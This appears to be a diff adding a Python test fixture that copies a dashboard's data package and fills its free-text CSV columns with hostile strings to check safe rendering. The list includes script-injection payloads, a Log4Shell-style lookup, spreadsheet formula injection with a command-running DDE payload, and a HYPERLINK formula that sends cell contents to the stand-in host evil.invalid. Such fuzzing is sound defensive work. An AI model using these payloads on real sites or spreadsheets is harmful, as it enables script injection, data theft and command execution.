@@ -1,0 +1,77 @@
+"""A copy of the data package in which every free text is an attack, and which still fits its schemas."""
+
+import csv
+import json
+import shutil
+from pathlib import Path
+
+from dashboard import data
+
+MARK = "__pwned"  # set on the window by any script of these that runs
+HOST = "evil.invalid"  # asked by any address of these that is followed
+CELLS = (
+    f"<img src=x onerror=\"window.{MARK}='img'\">",
+    f"<script>window.{MARK}='script'</script>",
+    f"\"'></textarea></title><svg onload=\"window.{MARK}='svg'\">",
+    f"[x](javascript:window.{MARK}=1) [y]: javascript:alert(1)",
+    f"![x](https://{HOST}/x.png) <https://{HOST}/a> https://{HOST}/b",
+    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe><style>body{{display:none}}</style>',
+    f'<a href="https://{HOST}/c">x</a><br><b>y</b>&lt;script&gt;&#0;&amp;',
+    "# heading\n\n- list\n\n```\ncode\n```\n| a | b |\n|---|---|\n| 1 | 2 |",
+    "$\\frac{1}{0}$ $$\\href{javascript:alert(1)}{x}$$ :red[x] :material/home: :smile: ~~s~~ `c`",
+    "{0} {count} {} %s %(x)s %{customdata} %{x:.2f} ${jndi:ldap} {{x}}",
+    f'=HYPERLINK("https://{HOST}/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r\n=1+1",
+    "\uff1d1+1",
+    "\u202eright to left\u202c \u05d0\u05d1\u05d2 \u0627\u0644\u0633\u0644\u0627\u0645 \u2067x",
+    "a\u0000b",
+    "long " * 400,
+    "x" * 2000,
+    "nan",
+    "None",
+    "-1e309",
+    "\u200b",
+    "\ufeffx\u2028y\u2029z\u0085",
+    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 20,
+    "\\",
+    "'",
+    '"',
+    ";;;",
+)
+
+
+def package(folder: Path, turn: int = 0) -> Path:
+    """Copy the package into a folder and fill its free text; another `turn` puts other attacks into each cell."""
+    shutil.copytree(data.directory(), folder)
+    resources = json.loads((folder / data.PACKAGE).read_text(encoding="utf-8"))["resources"]
+    for table, resource in enumerate(each for each in resources if "schema" in each):
+        _fill(folder / resource["path"], free(resource), turn + 7 * table)
+    return folder
+
+
+def free(resource: dict[str, object]) -> list[str]:
+    """Columns of a table that may hold any text."""
+    schema = resource["schema"]
+    assert isinstance(schema, dict)
+    bound = {"enum", "pattern", "maxLength"}
+    return [
+        field["name"]
+        for field in schema["fields"]
+        if field["type"] == "string" and not bound & set(field.get("constraints", {}))
+    ]
+
+
+def _fill(path: Path, columns: list[str], turn: int) -> None:
+    with path.open(encoding="utf-8", newline="") as file:
+        reader = csv.DictReader(file)
+        names, rows = list(reader.fieldnames or ()), list(reader)
+    for number, row in enumerate(rows):
+        row.update({column: CELLS[(number + 5 * place + turn) % len(CELLS)] for place, column in enumerate(columns)})
+    with path.open("w", encoding="utf-8", newline="") as file:
+        writer = csv.DictWriter(file, names, lineterminator="\n", quoting=csv.QUOTE_ALL)
+        writer.writeheader()
+        writer.writerows(rows)
